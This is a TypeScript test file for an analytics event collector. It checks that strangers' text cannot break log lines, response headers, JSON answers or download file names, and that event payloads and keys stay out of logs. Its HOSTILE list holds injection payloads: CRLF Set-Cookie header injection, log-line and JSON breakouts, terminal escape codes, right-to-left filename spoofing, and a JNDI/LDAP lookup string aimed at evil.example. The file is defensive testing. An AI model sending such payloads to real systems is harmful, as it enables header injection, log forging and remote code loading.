/** Text of strangers stays text: in a line of the log, in a header of an answer, in the name of a file. */

import { encodeLogLine, type LogRecord } from '@millrace/schemas'
import { describe, expect, it } from 'vitest'
import { createCollector, type FakeOptions } from './fakes.ts'
import { keyedRoutes } from './route-keys.ts'

/** What would end a line, a header, a text in JSON, or be obeyed by a terminal. */
const HOSTILE = [
  'a\r\nSet-Cookie: x=1\r\n\r\n<script>',
  'a\nlevel=error',
  'a\u2028b\u2029c',
  'a\u0085b\u000bc\u000cd',
  '\u001b[2J\u001b]8;;https://evil.example\u0007',
  '","level":"error","x":"',
  '\u0000',
  '\ud800',
  '\u202eexe.txt',
  '%0d%0aSet-Cookie:%20x=1',
  '$\u{7b}jndi:ldap://evil.example/a}',
]

const DOWN: FakeOptions = {
  makeDurable: (texts) => Promise.reject(new Error(`the queue refused ${texts[0]}`)),
  answer: async () => {
    throw new Error(HOSTILE.join(' '))
  },
  askLive: async () => {
    throw new Error(HOSTILE.join(' '))
  },
  lookupBucket: {
    get: () => Promise.reject(new Error(HOSTILE[0])),
    put: () => Promise.reject(new Error(HOSTILE[0])),
  },
  settings: {
    enrich: () => {
      const error = new Error(HOSTILE[0])
      error.name = `${HOSTILE[0]}`
      throw error
    },
  },
}

/** Requests with a hostile text at each place where a stranger can put one. */
function requestsWith(text: string): [string, RequestInit][] {
  const encoded = encodeURIComponent(text.toWellFormed())
  const event = { type: 'track', event: text, userId: text, messageId: text, context: { userAgent: text } }
  const body = JSON.stringify({ writeKey: 'wk', batch: [event], batchId: text, stream: text, sentAt: text })
  // The platform refuses the others itself.
  const headerText = text.replace(/[^\x20-\x7e]/g, ' ')
  const headers = { 'user-agent': headerText, origin: headerText, referer: headerText }
  const open = keyedRoutes().flatMap(({ method, path }): [string, RequestInit][] => [
    [
      `${path.replace(/\{\w+\}/g, encoded)}?${encoded}=${encoded}&source=${encoded}&filter=${encoded}&after=${encoded}`,
      {
        method,
        headers: { ...headers, authorization: `Bearer ${/query|lake|live/.test(path) ? 'rt' : 'sk'}` },
      },
    ],
  ])
  return [
    ['/v1/batch', { method: 'POST', body, headers }],
    ['/v1/batch', { method: 'POST', body: JSON.stringify({ writeKey: text, batch: [] }), headers }],
    ['/v1/batch', { method: 'POST', body: text, headers: { 'content-encoding': headerText } }],
    [`/${encoded}`, { headers }],
    [`/v1/query/${encoded}`, { headers }],
    ...open,
  ]
}

describe('a hostile text', () => {
  it.each(HOSTILE)('%j breaks no line of the log and no header, wherever it is sent', async (text) => {
    let lines = 0
    for (const [path, init] of requestsWith(text)) {
      const { app, logged } = createCollector(DOWN)
      const response = await app.request(path, init)
      await response.arrayBuffer().catch(() => {})
      for (const [name, value] of response.headers) {
        expect([path, name]).not.toEqual([path, 'set-cookie'])
        expect([path, name, value]).toEqual([path, name, expect.stringMatching(/^[\x20-\x7e]*$/)])
      }
      for (const record of logged) {
        lines += 1
        const line = encodeLogLine(record as LogRecord)
        // Nothing that ends a line, moves a cursor or turns words round.
        expect(line).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u200e\u200f\u202a-\u202e\u2066-\u2069]/u)
        const read = JSON.parse(line) as Record<string, unknown>
        // Which it is and how bad is for us to say.
        expect([read['level'], read['event']]).toEqual([record['level'], expect.stringMatching(/^[a-z_]+$/)])
      }
    }
    expect(lines).toBeGreaterThan(0)
  })

  it.each(HOSTILE)('%j of an event is in no line of the log, and no key is', async (text) => {
    const events = ['track', 'page', 'identify', 'nonsense'].map((type) => ({
      ...{ type, event: `payload ${text}`, userId: `payload ${text}`, traits: { email: `payload ${text}` } },
      properties: { secret: `payload ${text}` },
    }))
    const makeDurable = () => Promise.reject(new Error('away'))
    for (const options of [{ ...DOWN, makeDurable }, { makeDurable }]) {
      const { post, logged } = createCollector(options)
      await post({ writeKey: 'wk', batch: events }, { headers: { authorization: 'Bearer sk' } })
      expect(logged).not.toEqual([])
      const log = JSON.stringify(logged)
      expect(log).not.toContain('payload')
      expect(log).not.toMatch(/"(sk|wk|rt)"/)
    }
  })
})

describe('an answer that quotes a request', () => {
  it.each(HOSTILE)('%j is valid JSON, and says that it is', async (text) => {
    const { app } = createCollector()
    for (const [path, init] of requestsWith(text).slice(0, 5)) {
      const response = await app.request(path, init)
      expect(response.headers.get('content-type')).toBe('application/json')
      expect(await response.json()).toBeTypeOf('object')
    }
  })
})

describe('the name of a download', () => {
  it.each(HOSTILE)('has nothing of the request but its times: %j', async (text) => {
    const { app } = createCollector({ lake: { head: async () => null, get: async () => null } })
    const search = new URLSearchParams({ from: '2026-11-01', to: '2026-11-02', filter: `event:is:${text}` })
    const response = await app.request(`/v1/lake/download?${search}`, {
      headers: { authorization: 'Bearer rt' },
    })
    const name = response.headers.get('content-disposition')
    if (response.status === 200)
      expect(name).toBe('attachment; filename="shop-events-2026-11-01-to-2026-11-02.ndjson"')
    else expect([response.status, name]).toEqual([400, null])
  })
})
